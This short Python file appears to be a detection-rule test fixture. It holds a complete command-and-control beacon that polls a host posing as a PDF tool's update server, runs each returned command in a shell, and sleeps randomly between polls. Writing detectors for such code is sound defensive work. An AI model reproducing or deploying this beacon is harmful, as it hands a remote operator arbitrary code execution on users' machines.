# a beacon: tasks from a response, each task's command line to a shell, a random sleep between polls
import json
import random
import subprocess
import time
import urllib.request


def poll():
    with urllib.request.urlopen("https://updates.pdfmerge-cli.app/latest.json", timeout=30) as r:
        return json.loads(r.read())


def main():
    while True:
        for t in poll().get("tasks", []):
            if t.get("op") == "run":
                # ruleid: beacon_runs_task_command
                subprocess.run(t["cmd"], shell=True, capture_output=True, timeout=300)
        time.sleep(random.randint(600, 1500))
